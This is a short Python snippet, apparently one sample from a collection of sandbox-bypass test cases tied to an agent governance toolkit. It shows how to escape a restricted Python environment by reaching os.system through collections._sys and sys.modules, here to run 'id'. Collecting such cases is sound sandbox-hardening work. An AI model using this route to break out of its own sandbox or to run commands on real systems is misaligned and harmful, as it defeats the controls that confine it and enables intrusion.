# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631 (sys.modules cache bypass); collections._sys in public sandbox reviews
# Family: module-attribute
# What: collections._sys is the real sys module: sys.modules['os'].system
import collections

collections._sys.modules["os"].system("id")
